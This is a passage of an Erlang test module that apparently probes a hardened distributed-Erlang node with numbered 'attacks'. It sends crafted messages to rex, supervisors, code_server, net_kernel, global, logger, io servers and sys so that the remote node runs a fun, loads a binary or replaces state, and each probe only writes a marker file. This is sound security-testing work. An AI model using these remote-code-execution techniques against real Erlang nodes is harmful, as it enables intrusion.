    ktls_attack_sampler ! {peak, self(), Ref},
    receive {Ref, Peak} -> Peak after 5000 -> error(sampler) end.

%% @doc Peak resident set size of this OS process, bytes.
-spec vm_hwm() -> non_neg_integer().
vm_hwm() ->
    {ok, Status} = file:read_file("/proc/self/status"),
    {match, [Kb]} = re:run(Status, "VmHWM:\\s+(\\d+) kB", [{capture, all_but_first, list}]),
    list_to_integer(Kb) * 1024.

%% @doc code_server's protocol by hand: {code_call, Pid, Request}.
-spec code_server_load(node(), module(), binary()) -> no_reply | {reply, term()}.
code_server_load(Node, Mod, Bin) ->
    {code_server, Node} ! {code_call, self(), {load_binary, Mod, atom_to_list(Mod), Bin}},
    receive {code_server, Reply} -> {reply, Reply} after 1000 -> no_reply end.

%% @doc Attack 5 and its variants; a map of what each caller got.
-spec rex_attacks(file:filename(), node(), pid()) -> map().
rex_attacks(Dir, Node, RexPid) ->
    Fun = fun() -> mark(Dir, rex) end,
    GL = group_leader(),
    Cast = {'$gen_cast', {cast, erlang, apply, [Fun, []], GL}},
    {rex, Node} ! Cast,
    RexPid ! Cast,
    {rex, Node} ! {'$gen_cast', {cast, os, putenv, ["KTLS_ATTACK", "rex"], GL}},
    #{rpc_call => bounded(fun() -> rpc:call(Node, erlang, apply, [Fun, []]) end, ?FAST_MS),
      rpc_block_call =>
          bounded(fun() -> rpc:block_call(Node, erlang, apply, [Fun, []]) end, ?FAST_MS),
      gen_call_rex =>
          bounded(fun() -> gen_server:call({rex, Node}, {call, erlang, apply, [Fun, []], GL},
                                           infinity)
                  end, ?FAST_MS),
      gen_call_rex_pid =>
          bounded(fun() -> gen_server:call(RexPid, {call, erlang, apply, [Fun, []], GL}, infinity)
                  end, ?FAST_MS),
      rpc_cast => rpc:cast(Node, erlang, apply, [Fun, []])}.

%% @doc Attack 6: supervisor:start_child/2 of a child spec that runs a fun;
%% to {kernel_sup, Node}, then to each supervisor pid, then an old-style
%% spec tuple to the last one. Each result as bounded/2 gives it.
-spec start_child_attacks(file:filename(), node(), [pid()]) -> [term()].
start_child_attacks(Dir, Node, Sups) ->
    GL = group_leader(),
    GlFun = fun() -> group_leader(GL, self()), mark(Dir, start_child), ignore end,
    Spec = #{id => make_ref(), start => {erlang, apply, [GlFun, []]}, restart => temporary},
    Start = fun(Sup, S) -> bounded(fun() -> supervisor:start_child(Sup, S) end, ?FAST_MS) end,
    Old = {make_ref(), {erlang, apply, [GlFun, []]}, temporary, 1000, worker, []},
    [Start({kernel_sup, Node}, Spec)] ++ [Start(Sup, Spec) || Sup <- Sups] ++
        [Start(lists:last(Sups), Old)].

%% @doc Attack 7: io requests that make the io server run a fun, to each of
%% Servers (registered names on Node or pids) and, through erl_scan's
%% reserved_word_fun, to the first. Each sender's io_reply.
-spec io_attacks(file:filename(), node(), [atom() | pid()]) -> [term()].
io_attacks(Dir, Node, Servers) ->
    IoFun = fun() -> mark(Dir, io_request), <<>> end,
    ScanFun = fun(_) -> mark(Dir, io_request_erl_scan), false end,
    Apply = {put_chars, unicode, erlang, apply, [IoFun, []]},
    Scan = {put_chars, unicode, erl_scan, string, ["a b", 1, [{reserved_word_fun, ScanFun}]]},
    Dest = fun(S) when is_atom(S) -> {S, Node};
              (P) -> P
           end,
    [io_request(Dest(S), Apply) || S <- Servers] ++
        [io_request(Dest(hd(Servers)), {requests, [Apply]}),
         io_request(Dest(lists:last(Servers)), Scan),
         io_request(Dest(lists:last(Servers)), {put_chars, unicode, os, cmd, ["true"]})].

%% @doc An io request to Node's standard_error that calls a function, sent
%% from here on behalf of a process and a reference of Third.
third_node_io_request(Dir, Node, Third) ->
    From = erpc:call(Third, erlang, whereis, [init]),
    Ref = erpc:call(Third, erlang, make_ref, []),
    IoFun = fun() -> mark(Dir, io_request_third_node), <<>> end,
    {standard_error, Node} ! {io_request, From, Ref, {put_chars, unicode, erlang, apply, [IoFun, []]}},
    ok.

%% @doc The backdoors of otp_server_backdoors/1 against Node, each fun
%% marking under its own name; the disconnects last.
-spec backdoors(file:filename(), node(), module(), binary()) -> map().
backdoors(Dir, Node, Mod, Bin) ->
    GL = group_leader(),
    Fun = fun(What) -> fun() -> mark(Dir, What) end end,
    Spec = #{id => make_ref(), start => {erlang, apply, [Fun(relay_start_child), []]},
             restart => temporary},
    Call = fun(Dest, Req) -> bounded(fun() -> gen_server:call(Dest, Req, infinity) end, ?FAST_MS)
           end,
    Self = self(),
    Ref = make_ref(),
    NetKernel = {net_kernel, Node},
    Rex = {rex, Node},
    %% first: on a stock node the later ones leave its logger in no state
    %% to format anything
    {logger_proxy, Node} !
        {log, notice, #{ktls_attack => report},
         #{report_cb => fun(_) -> mark(Dir, logger_report_cb), {"ktls attack", []} end,
           time => logger:timestamp()}},
    receive after 300 -> ok end,
    NkSpawn = Call(NetKernel, {spawn, erlang, apply, [Fun(net_kernel_spawn), []], GL}),
    NetKernel ! {Self, registered_send, kernel_sup, {'$gen_call', {Self, Ref}, {start_child, Spec}}},
    StartChild = receive {Ref, Reply} -> Reply after 2000 -> no_reply end,
    NetKernel ! {Self, registered_send, code_server,
                 {code_call, Self, {load_binary, Mod, atom_to_list(Mod), Bin}}},
    CodeServer = receive {code_server, CReply} -> CReply after 2000 -> no_reply end,
    Rex ! {node(), {call, erlang, apply, [Fun(rex_hidden_call), []], GL}},
    Rex ! {Self, {sbcast, rex, {'$gen_cast', {cast, erlang, apply, [Fun(rex_sbcast), []], GL}}}},
    Rex ! {Self, {send, rex, {call, erlang, apply, [Fun(rex_send), []], GL}}},
    Registrar = Call({global_name_server, Node},
                     {registrar, fun(_Nodes) -> mark(Dir, global_registrar) end}),
    Resolve = fun(_Name, _Pid1, _Pid2) -> mark(Dir, global_resolver), none end,
    Resolver = Call({global_name_server, Node}, {register, {ktls_attack_clash, node()}, Self, Resolve}),
    ReplaceState = bounded(fun() ->
                                   sys:replace_state({ktls_attack_server, Node},
                                                     fun(St) -> mark(Dir, replace_state), St end)
                           end, ?FAST_MS),
    Suspend = bounded(fun() -> sys:suspend({ktls_attack_server, Node}) end, ?FAST_MS),
    _ = bounded(fun() -> sys:resume({ktls_attack_server, Node}) end, ?FAST_MS),
    Io = gen_server:call({ktls_attack_server, Node}, {whereis, ktls_attack_io}, ?FAST_MS),
    ExpandFun = fun(_) -> mark(Dir, expand_fun), {no, "", []} end,
    IoSetopts = bounded(fun() -> io:setopts(Io, [{expand_fun, ExpandFun}]) end, ?FAST_MS),
    AddHandler = bounded(fun() -> gen_event:add_handler({ktls_attack_events, Node},
                                                        ktls_attack_server, [])
                         end, ?FAST_MS),
    receive after 500 -> ok end,
    #{net_kernel_spawn => NkSpawn, relay_start_child => StartChild, relay_code_server => CodeServer,
      global_registrar => Registrar, global_resolver => Resolver, replace_state => ReplaceState,
      sys_suspend => Suspend, io_setopts => IoSetopts, add_handler => AddHandler}.

%% @doc The disconnects of otp_server_backdoors/1: global's (from every
%% node), net_kernel's call and cast, all for this node.
-spec disconnects(node()) -> map().
disconnects(Node) ->
    Call = fun(Dest, Req) -> bounded(fun() -> gen_server:call(Dest, Req, infinity) end, ?FAST_MS)
           end,
    GlobalDisconnect = Call({global_name_server, Node}, disconnect),
    NkDisconnect = Call({net_kernel, Node}, {disconnect, node()}),
    gen_server:cast({net_kernel, Node}, {async_disconnect, node()}),
    #{global_disconnect => GlobalDisconnect, net_kernel_disconnect => NkDisconnect}.

io_request(Dest, Request) ->
    Ref = make_ref(),
    Dest ! {io_request, self(), Ref, Request},
    receive
        {io_reply, Ref, Reply} -> Reply
    after ?FAST_MS ->
            hung
    end.
